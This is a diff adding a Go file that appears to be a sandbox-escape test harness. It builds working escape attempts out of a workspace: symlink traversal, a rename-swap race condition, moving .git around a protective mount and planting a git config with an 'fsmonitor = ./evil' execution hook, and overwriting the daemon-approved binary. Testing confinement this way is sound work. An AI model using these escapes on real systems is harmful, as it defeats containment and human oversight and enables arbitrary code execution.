@@ -1,0 +1,112 @@
+package main
+
+import (
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+
+	"golang.org/x/sys/unix"
+)
+
+// links lead out of the workspace by symbolic links that the attack makes.
+func links() map[string]attack {
+	return map[string]attack{
+		"link-absolute": anyOf(func(target string) error { return through(target, target) }),
+		"link-relative": anyOf(func(target string) error { return through("../../../../../../../.."+target, target) }),
+		"link-chained":  anyOf(chained),
+		"link-ancestor": anyOf(ancestor),
+		"link-swapped":  swapped,
+		"mv-git":        moveGit,
+		"replace-self":  replaceSelf,
+	}
+}
+
+// through writes through a link.
+func through(text, target string) error {
+	link := "link-" + filepath.Base(target)
+	_ = os.Remove(link)
+	if err := os.Symlink(text, link); err != nil {
+		return err
+	}
+	return writeTo(link, os.O_WRONLY)
+}
+
+func chained(target string) error {
+	_ = os.Remove("first")
+	if err := os.Symlink(filepath.Dir(target), "first"); err != nil {
+		return err
+	}
+	return through("first/"+filepath.Base(target), target)
+}
+
+// ancestor makes missing directories below a link.
+func ancestor(target string) error {
+	_ = os.Remove("up")
+	if err := os.Symlink(filepath.Dir(target), "up"); err != nil {
+		return err
+	}
+	if err := os.MkdirAll("up/missing/further", 0o755); err != nil {
+		return err
+	}
+	return writeTo("up/missing/further/made", os.O_WRONLY|os.O_CREATE)
+}
+
+// swapped exchanges a plain file for a link while another thread writes, and
+// works when a write arrived outside.
+func swapped(targets []string) (string, error) {
+	for _, target := range targets {
+		if _, err := os.Lstat(target); err != nil {
+			continue // no name of the target: nothing to swap to
+		}
+		if err := swapFor(target); err == nil {
+			return target, nil
+		}
+	}
+	return "", fmt.Errorf("none of %v is reached", targets)
+}
+
+func swapFor(target string) error {
+	for _, name := range []string{"here", "there"} {
+		_ = os.Remove(name)
+	}
+	if err := errors.Join(os.WriteFile("here", nil, 0o644), os.Symlink(target, "there")); err != nil {
+		return err
+	}
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		for range 500 {
+			_ = unix.Renameat2(unix.AT_FDCWD, "here", unix.AT_FDCWD, "there", unix.RENAME_EXCHANGE)
+		}
+	}()
+	for range 200 {
+		_ = writeTo("here", os.O_WRONLY)
+	}
+	<-done
+	text, err := os.ReadFile(target)
+	if err == nil && string(text) != "attacked\n" {
+		return errors.New("the target is as it was")
+	}
+	return err
+}
+
+// moveGit goes around a mount that protects .git.
+func moveGit([]string) (string, error) {
+	if err := os.Rename(".git", ".git2"); err != nil {
+		return "", err
+	}
+	return put([]string{".git/config", "[core]\n\tfsmonitor = ./evil\n", ".git/HEAD", "ref: refs/heads/main\n"})
+}
+
+// replaceSelf changes the program that the daemon has approved.
+func replaceSelf([]string) (string, error) {
+	self, err := os.Readlink("/proc/self/exe")
+	if err != nil {
+		return "", err
+	}
+	if err := os.Remove(self); err != nil {
+		return "", err
+	}
+	return self, os.WriteFile(self, []byte("#!/bin/sh\n"), 0o755)
+}
